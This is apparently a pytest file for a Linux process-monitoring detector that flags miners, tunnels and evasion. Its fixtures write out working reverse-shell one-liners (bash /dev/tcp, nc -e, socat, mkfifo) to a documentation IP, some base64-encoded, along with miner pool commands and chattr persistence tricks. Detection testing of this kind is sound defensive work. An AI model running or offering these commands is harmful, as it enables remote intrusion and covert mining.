"""Process rules on plain fixture events."""

from __future__ import annotations

import base64
import time

import pytest
from fakes import context, fake_monero_address, proc

from sentinel.core.events import ProcExec
from sentinel.core.model import Ancestor, Category, Finding, Proc, Severity
from sentinel.detectors.process import ProcessDetector

SSHD = Ancestor(90, "sshd", "/usr/sbin/sshd")


@pytest.fixture(scope="module")
def det() -> ProcessDetector:
    return ProcessDetector(context())


def run(det: ProcessDetector, p: Proc) -> dict[str, Finding]:
    found = list(det.handle(ProcExec(time.time(), p, "netlink")))
    by_rule = {f.rule: f for f in found}
    assert len(by_rule) == len(found), "one finding per rule and process"
    for f in found:
        assert f.process is p and f.process.ancestors, "every finding carries the process"
        assert f.category == Category(f.rule.split(".")[0])
    return by_rule


def cmd(*args: str, exe: str = "", name: str = "", **kw: object) -> Proc:
    exe = exe or f"/usr/bin/{args[0].rsplit('/', 1)[-1]}"
    return proc(name=name or exe.rsplit("/", 1)[-1][:15], exe=exe, cmdline=list(args), **kw)


@pytest.mark.parametrize(
    ("p", "which"),
    [
        (cmd("/opt/x/xmrig", exe="/opt/x/xmrig"), "comm"),
        (cmd("./worker", exe="/opt/x/XMRig", name="worker"), "exe"),
        (cmd("t-rex", "-a", "foo", exe="/opt/x/w", name="w"), "argv0"),
        (cmd("/usr/bin/python3", "/opt/x/nbminer", exe="/usr/bin/python3.11", name="p"), "script"),
        (cmd("srbminer-multi", exe="/opt/s/a", name="srbminer-multi"), "comm"),
    ],
)
def test_miner_names(det: ProcessDetector, p: Proc, which: str) -> None:
    f = run(det, p)["miner.process_name"]
    assert f.severity == Severity.HIGH and which in f.evidence


@pytest.mark.parametrize(
    ("args", "rule"),
    [
        (("w", "-o", "stratum+tcp://127.0.0.1:3333"), "miner.cmdline.stratum_url"),
        (("w", "--url=stratum2+ssl://pool.example.com:443"), "miner.cmdline.stratum_url"),
        (("w", "-o", "daemon+http://127.0.0.1:18081"), "miner.cmdline.stratum_url"),
        (("sh", "-c", "./w -o STRATUM+TLS://[::1]:14433 &"), "miner.cmdline.stratum_url"),
        (("w", "--donate-level=1"), "miner.cmdline.miner_flag"),
        (("w", "--cpu-priority", "5"), "miner.cmdline.miner_flag"),
        (("w", "-a", "rx/0"), "miner.cmdline.algo"),
        (("w", "--algo=kawpow"), "miner.cmdline.algo"),
        (("w", "--algo", "autolykos2"), "miner.cmdline.algo"),
        (("w", "-o", "127.0.0.1:3333", "-u", "someone", "-p", "x"), "miner.cmdline.pool_login"),
        (("w", "-o", "eu.minepool.test:4444"), "miner.cmdline.pool_domain"),
        (("sh", "-c", "modprobe msr allow_writes=on"), "miner.cmdline.msr_tuning"),
    ],
)
def test_miner_cmdline_indicators(det: ProcessDetector, args: tuple[str, ...], rule: str) -> None:
    found = run(det, cmd(*args, exe="/usr/local/bin/w"))
    assert found[rule].severity == Severity.HIGH
    assert found[rule].category == Category.MINER


@pytest.mark.parametrize(
    "args",
    [
        ("gcc", "-o", "hello", "-u", "main", "hello.c"),
        ("ls", "-a", "/tmp"),
        ("python3", "-m", "pip", "install", "--no-index", "pkg"),
        ("curl", "-o", "out.txt", "-u", "me:pw", "https://example.com/f"),
        ("ssh", "-L", "8080:localhost:80", "build.example.com"),
        ("ssh", "-o", "ProxyJump=jump.example.com:22", "-l", "u", "host.example.com"),
        ("bash", "-c", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'"),
        ("socat", "-", "UNIX-CONNECT:/run/docker.sock"),
        ("nc", "-zv", "127.0.0.1", "22"),
        ("pkill", "-f", "gunicorn"),
        ("chattr", "-i", "/etc/resolv.conf"),
        ("make", "-j2", "VERSION=cn/r"),
    ],
)
def test_benign_command_lines(det: ProcessDetector, args: tuple[str, ...]) -> None:
    assert run(det, cmd(*args)) == {}


def test_wallet_argument_is_checksum_validated(det: ProcessDetector) -> None:
    wallet = fake_monero_address()
    f = run(det, cmd("w", "--user", wallet, exe="/usr/local/bin/w"))["wallet.cmdline"]
    assert f.category == Category.WALLET
    assert f.evidence["wallets"] == [{"kind": "monero", "address": wallet}]
    broken = wallet[:-1] + ("1" if wallet[-1] != "1" else "2")
    assert "wallet.cmdline" not in run(det, cmd("w", "--user", broken, exe="/usr/local/bin/w"))


def test_base64_encoded_indicators(det: ProcessDetector) -> None:
    hidden = base64.b64encode(b"./w -o stratum+tcp://127.0.0.1:3333 --donate-level 1").decode()
    found = run(det, cmd("sh", "-c", f"echo {hidden} | base64 -d | sh", exe="/usr/bin/dash"))
    assert found["miner.cmdline.stratum_url"].evidence["encoding"] == "base64"
    assert "miner.cmdline.miner_flag" in found
    shell = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.5/4444 0>&1").decode()
    found = run(det, cmd("bash", "-c", f"{{echo,{shell}}}|{{base64,-d}}|bash"))
    assert found["tunnel.reverse_shell"].evidence["encoding"] == "base64"


@pytest.mark.parametrize(
    ("exe", "deleted", "rule", "severity"),
    [
        ("/tmp/build/a.out", False, "evasion.exec_from_tmp", Severity.LOW),
        ("/var/tmp/x", False, "evasion.exec_from_tmp", Severity.LOW),
        ("/dev/shm/x", False, "evasion.exec_from_tmp", Severity.MEDIUM),
        ("/memfd:payload", True, "evasion.exec_memfd", Severity.HIGH),
        ("/memfd:", True, "evasion.exec_memfd", Severity.HIGH),
        ("/tmp/x", True, "evasion.exec_deleted", Severity.MEDIUM),
        ("/home/u/.cache/x", True, "evasion.exec_deleted", Severity.MEDIUM),
        ("/usr/sbin/sshd", True, "evasion.exec_deleted", Severity.MEDIUM),
    ],
)
def test_exec_locations(
    det: ProcessDetector, exe: str, deleted: bool, rule: str, severity: Severity
) -> None:
    found = run(det, proc(name="x", exe=exe, cmdline=["x"], exe_deleted=deleted))
    assert found[rule].severity == severity and found[rule].category == Category.EVASION


def test_replaced_system_binary_is_an_upgrade(det: ProcessDetector) -> None:
    """A running daemon whose binary a package upgrade replaced: low, not medium."""
    p = proc(name="x", exe="/usr/sbin/sshd", cmdline=["x"], exe_deleted=True, exe_replaced=True)
    assert run(det, p)["evasion.exec_deleted"].severity == Severity.LOW


def test_runc_memfd_and_ordinary_paths_are_quiet(det: ProcessDetector) -> None:
    runc = proc(name="runc", exe="/memfd:runc_cloned:/proc/self/exe", exe_deleted=True)
    assert run(det, runc) == {}
    assert run(det, proc(name="tmpwatch", exe="/usr/sbin/tmpwatch", cmdline=["tmpwatch"])) == {}


@pytest.mark.parametrize(
    "p",
    [
        proc(name="sleep", exe="/tmp/x/sleep", cmdline=["[kworker/0:1]", "60"]),
        proc(name="kworker/0:2", exe="/usr/bin/python3.11", cmdline=["python3"]),
        proc(name="kthreadd", exe="", cmdline=["kthreadd"], ppid=777),
        proc(name="ksoftirqd/3", exe="/opt/k", cmdline=[], ppid=2),
    ],
)
def test_kernel_thread_masquerade(det: ProcessDetector, p: Proc) -> None:
    f = run(det, p)["evasion.kthread_masquerade"]
    assert f.severity == Severity.HIGH and f.category == Category.EVASION


def test_real_kernel_threads_and_zombies_are_quiet(det: ProcessDetector) -> None:
    assert run(det, proc(pid=2, name="kthreadd", exe="", cmdline=[], ppid=0)) == {}
    assert run(det, proc(pid=30, name="kworker/0:1-events", exe="", cmdline=[], ppid=2)) == {}
    assert run(det, proc(pid=31, name="xmrig", exe="", cmdline=[], ppid=1)) == {}  # a zombie


@pytest.mark.parametrize(
    "p",
    [
        proc(name="sshd", exe="/tmp/.x/miner", cmdline=["sshd"]),
        proc(name="worker", exe="/opt/w/worker", cmdline=["/usr/sbin/sshd", "-D"]),
        proc(name="systemd-journal", exe="/var/tmp/j", cmdline=["systemd-journald"]),
        proc(name="bash", exe="/opt/w/miner", cmdline=["-bash"], ancestors=[SSHD]),
        proc(name="x", exe="/opt/w/miner", cmdline=["postgres: checkpointer"]),
        proc(name="x", exe="/opt/w/miner", cmdline=["nginx: worker process"]),
    ],
)
def test_name_masquerade(det: ProcessDetector, p: Proc) -> None:
    f = run(det, p)["evasion.name_masquerade"]
    assert f.severity == Severity.HIGH


@pytest.mark.parametrize(
    "p",
    [
        proc(
            name="postgres",
            exe="/usr/lib/postgresql/15/bin/postgres",
            cmdline=["postgres: checkpointer"],
        ),
        proc(name="nginx", exe="/usr/sbin/nginx", cmdline=["nginx: worker process"]),
        proc(name="sshd", exe="/usr/sbin/sshd", cmdline=["sshd: root@pts/0"]),
        proc(name="sshd-session", exe="/usr/lib/openssh/sshd-session", cmdline=["sshd: u [priv]"]),
        proc(name="bash", exe="/usr/bin/bash", cmdline=["-bash"]),
        proc(name="sh", exe="/usr/bin/dash", cmdline=["sh", "-c", "true"]),
        proc(name="php-fpm8.2", exe="/usr/sbin/php-fpm8.2", cmdline=["php-fpm: pool www"]),
        proc(
            name="systemd",
            exe="/usr/lib/systemd/systemd",
            cmdline=["/lib/systemd/systemd", "--user"],
        ),
        proc(pid=1, name="systemd", exe="/usr/lib/systemd/systemd", cmdline=["/sbin/init"]),
        proc(name="python3", exe="/usr/bin/python3.11", cmdline=["celery: worker"]),
        proc(name="sh", exe="/bin/busybox", cmdline=["sh"], exe_trusted=True),
        # read while a child of bash (the fixture's parent) was exec'ing /usr/bin/true
        proc(
            name="bash", exe="/usr/bin/true", cmdline=["bash", "-c", "for i in 1 2; do true; done"]
        ),
    ],
)
def test_legitimate_renames_are_quiet(det: ProcessDetector, p: Proc) -> None:
    assert run(det, p) == {}


@pytest.mark.parametrize(
    ("args", "rule", "severity"),
    [
        (
            ("ssh", "-N", "-R", "2222:localhost:22", "user@198.51.100.5"),
            "tunnel.ssh_reverse",
            Severity.HIGH,
        ),
        (("ssh", "-fNR2222:localhost:22", "198.51.100.5"), "tunnel.ssh_reverse", Severity.HIGH),
        (
            ("ssh", "198.51.100.5", "-o", "RemoteForward=2222 localhost:22"),
            "tunnel.ssh_reverse",
            Severity.HIGH,
        ),
        (("ssh", "-R", "2222:localhost:22", "localhost"), "tunnel.ssh_reverse", Severity.LOW),
        (("ssh", "-D", "1080", "-N", "u@198.51.100.5"), "tunnel.ssh_socks", Severity.MEDIUM),
        (("ssh", "-w", "0:0", "root@198.51.100.5"), "tunnel.ssh_vpn", Severity.HIGH),
        (
            ("ssh", "-L", "5432:10.0.0.9:5432", "bastion.example.com"),
            "tunnel.ssh_forward",
            Severity.MEDIUM,
        ),
        (
            ("ssh", "-L", "[::1]:8080:[2001:db8::5]:80", "h.example.com"),
            "tunnel.ssh_forward",
            Severity.MEDIUM,
        ),
        (
            ("autossh", "-M", "0", "-N", "-R", "9000:localhost:22", "u@198.51.100.5"),
            "tunnel.ssh_reverse",
            Severity.HIGH,
        ),
    ],
)
def test_ssh_tunnels(
    det: ProcessDetector, args: tuple[str, ...], rule: str, severity: Severity
) -> None:
    f = run(det, cmd(*args))[rule]
    assert f.severity == severity and f.category == Category.TUNNEL


def test_ssh_by_argv0_only_and_local_forward(det: ProcessDetector) -> None:
    fake = cmd("ssh", "-N", "-R", "2222:localhost:22", "u@198.51.100.5", exe="/tmp/t/sleep")
    assert "tunnel.ssh_reverse" in run(det, fake)
    assert run(det, cmd("ssh", "-N", "-L", "8080:localhost:80", "127.0.0.1")) == {}
    assert run(det, cmd("ssh", "-L", "/tmp/s.sock:/run/docker.sock", "h.example.com")) == {}


@pytest.mark.parametrize(
    ("args", "rule", "severity"),
    [
        (("chisel", "client", "198.51.100.5:8000", "R:socks"), "tunnel.chisel", Severity.HIGH),
        (("chisel", "--version"), "tunnel.tool", Severity.HIGH),
        (
            ("cloudflared", "tunnel", "--url", "http://localhost:8000"),
            "tunnel.cloudflared",
            Severity.HIGH,
        ),
        (("cloudflared", "access", "login"), "tunnel.tool", Severity.MEDIUM),
        (("frpc", "-c", "frpc.toml"), "tunnel.frp", Severity.HIGH),
        (("frpc", "-c", "/etc/tun/client.ini"), "tunnel.tool", Severity.HIGH),
        (
            ("socat", "TCP:198.51.100.5:4444", "EXEC:/bin/bash,pty,stderr"),
            "tunnel.reverse_shell",
            Severity.HIGH,
        ),
        (("socat", "TCP4-LISTEN:4444,fork", "system:sh"), "tunnel.reverse_shell", Severity.HIGH),
        (
            ("socat", "TCP-LISTEN:8080,fork", "TCP:198.51.100.5:80"),
            "tunnel.socat_relay",
            Severity.MEDIUM,
        ),
        (("socat", "TCP-LISTEN:8080,fork", "TCP:localhost:80"), "tunnel.socat_relay", Severity.LOW),
        (("nc", "-e", "/bin/sh", "198.51.100.5", "4444"), "tunnel.reverse_shell", Severity.HIGH),
        (
            ("ncat", "--sh-exec", "sh", "198.51.100.5", "4444"),
            "tunnel.reverse_shell",
            Severity.HIGH,
        ),
        (
            ("bash", "-c", "bash -i >& /dev/tcp/198.51.100.5/4444 0>&1"),
            "tunnel.reverse_shell",
            Severity.HIGH,
        ),
        (
            (
                "sh",
                "-c",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.5 4444 >/tmp/f",
            ),
            "tunnel.reverse_shell",
            Severity.HIGH,
        ),
        (("chattr", "+i", "/etc/ld.so.preload"), "evasion.chattr_immutable", Severity.MEDIUM),
        (
            ("sh", "-c", "chattr -R +ia /var/spool/cron"),
            "evasion.chattr_immutable",
            Severity.MEDIUM,
        ),
        (("pkill", "-f", "xmrig"), "miner.kill_rival", Severity.HIGH),
        (("killall", "-9", "kinsing", "kdevtmpfsi"), "miner.kill_rival", Severity.HIGH),
        (
            ("sh", "-c", "ps aux | grep kdevtmpfsi | awk '{print $2}' | xargs kill -9"),
            "miner.kill_rival",
            Severity.HIGH,
        ),
    ],
)
def test_tools_shells_and_evasion(
    det: ProcessDetector, args: tuple[str, ...], rule: str, severity: Severity
) -> None:
    f = run(det, cmd(*args))[rule]
    assert f.severity == severity


def test_runbook_never_silences_process_rules() -> None:
    det = ProcessDetector(context("[[runbook.jobs]]\nname = 'bench'\nexe = '*'\nuser = 'root'\n"))
    assert "miner.process_name" in run(det, cmd("/opt/x/xmrig", exe="/opt/x/xmrig"))
    assert "tunnel.ssh_reverse" in run(det, cmd("ssh", "-R", "2222:localhost:22", "198.51.100.5"))


def test_base64_decoys_do_not_hide_the_payload(det: ProcessDetector) -> None:
    """Decoy tokens before the payload, or padding in front of it, do not use up the budget."""
    hidden = base64.b64encode(b"./w -o stratum+tcp://127.0.0.1:3333").decode()
    decoys = [base64.b64encode(f"harmless note number {i}".encode()).decode() for i in range(40)]
    found = run(det, cmd("sh", "-c", f"echo {' '.join(decoys)}; echo {hidden} | base64 -d | sh"))
    assert found["miner.cmdline.stratum_url"].evidence["encoding"] == "base64"
    padding = "x " * 200_000  # 400 KB of argv before the token
    found = run(det, cmd("sh", "-c", f"{padding}; echo {hidden} | base64 -d | sh"))
    assert found["miner.cmdline.stratum_url"].evidence["encoding"] == "base64"
    long = base64.b64encode(b" " * 70_000 + b"./w -o stratum+tcp://127.0.0.1:3333").decode()
    found = run(det, cmd("sh", "-c", f"echo {long} | base64 -d | sh"))
    assert found["miner.cmdline.stratum_url"].evidence["encoding"] == "base64"
